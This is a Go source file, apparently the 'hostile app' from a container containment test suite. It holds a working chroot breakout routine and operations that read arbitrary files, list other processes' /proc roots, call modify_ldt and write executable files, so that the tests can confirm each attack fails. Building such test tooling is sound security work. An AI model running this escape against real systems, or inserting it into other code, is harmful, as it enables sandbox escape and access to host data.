// Command attack is the containment suite's hostile app: packed into test
// images, it tries to get out of its root and reports what it reached, one
// line per operation, so that the tests can assert each attack fails.
//
// Usage:
//
//	attack escape OP...   break out of a chroot (mkdir, chroot, cd .. to the
//	                      top, chroot .), then run each OP there
//	attack in OP...       run each OP where the app is
//
// An OP is stat:PATH, read:PATH, ls:PATH, write:PATH=CONTENT or
// procroots: (list the root of every other process in view), fds: (list
// the process's descriptors), ldt: (read the process's LDT with
// modify_ldt, a syscall only a filter stops) or hostpid:SOCKET,APP,FDS[,wait] (ask a
// host PID spawner to start APP: askHostPID). Each prints
// "ok OP ..." (read: the first 64 bytes) or "err OP: reason". escape prints "escape: err ..." when the
// kernel refuses a step (no CAP_SYS_CHROOT, say) and runs the OPs anyway.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack escape|in OP...")
		os.Exit(2) //nolint:forbidigo // main: a usage error
	}
	switch os.Args[1] {
	case "escape":
		if err := escape(); err != nil {
			fmt.Println("escape: err", err)
		} else {
			fmt.Println("escape: done")
		}
	case "in":
	default:
		fmt.Fprintln(os.Stderr, "attack: unknown mode", os.Args[1])
		os.Exit(2) //nolint:forbidigo // main: a usage error
	}
	for _, op := range os.Args[2:] {
		fmt.Println(do(op))
	}
}

// escape is the classic chroot breakout: chroot into a subdirectory while
// keeping the working directory outside it, walk up past the old root
// (which is no longer the root, so ".." is not stopped there), and chroot
// to where the walk ends.
func escape() error {
	dir := fmt.Sprintf("/tmp/.escape-%d", os.Getpid())
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return err
	}
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	if err := unix.Chroot(dir); err != nil {
		return fmt.Errorf("chroot %s: %w", dir, err)
	}
	for range 256 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return unix.Chdir("/")
}

func do(op string) string {
	kind, arg, _ := strings.Cut(op, ":")
	switch kind {
	case "hostpid":
		return askHostPID(op, arg)
	case "stat":
		fi, err := os.Lstat(arg) //nolint:gosec // G703: reaching arbitrary paths is the attacker's job
		if err != nil {
			return "err " + op + ": " + err.Error()
		}
		return fmt.Sprintf("ok %s %v", op, fi.Mode())
	case "read":
		b, err := os.ReadFile(arg) //nolint:gosec // G304: reaching arbitrary paths is the attacker's job
		if err != nil {
			return "err " + op + ": " + err.Error()
		}
		if len(b) > 64 {
			b = b[:64]
		}
		return fmt.Sprintf("ok %s %q", op, b)
	case "ls":
		ents, err := os.ReadDir(arg)
		if err != nil {
			return "err " + op + ": " + err.Error()
		}
		names := make([]string, 0, len(ents))
		for _, e := range ents {
			names = append(names, e.Name())
		}
		return "ok " + op + " " + strings.Join(names, ",")
	case "procroots":
		// The roots of the other processes this one may see.
		pids, _ := os.ReadDir("/proc")
		var reached []string
		for _, p := range pids {
			if p.Name()[0] < '0' || p.Name()[0] > '9' || p.Name() == strconv.Itoa(os.Getpid()) {
				continue
			}
			ents, err := os.ReadDir("/proc/" + p.Name() + "/root")
			if err != nil {
				continue
			}
			names := make([]string, 0, len(ents))
			for _, e := range ents {
				names = append(names, e.Name())
			}
			reached = append(reached, p.Name()+"="+strings.Join(names, ","))
		}
		return "ok " + op + " " + strings.Join(reached, " ")
	case "fds":
		// The descriptors this process holds, and what they name.
		ents, err := os.ReadDir("/proc/self/fd")
		if err != nil {
			return "err " + op + ": " + err.Error()
		}
		var fds []string
		for _, e := range ents {
			target, _ := os.Readlink("/proc/self/fd/" + e.Name())
			fds = append(fds, e.Name()+"->"+target)
		}
		return "ok " + op + " " + strings.Join(fds, " ")
	case "ldt":
		if err := readLDT(); err != nil {
			return "err " + op + ": " + err.Error()
		}
		return "ok " + op
	case "write":
		p, content, _ := strings.Cut(arg, "=")
		if err := os.WriteFile(p, []byte(content), 0o755); err != nil { //nolint:gosec // G306: it plants executables, as an attacker would
			return "err " + op + ": " + err.Error()
		}
		return "ok " + op
	}
	return "err " + op + ": unknown operation"
}
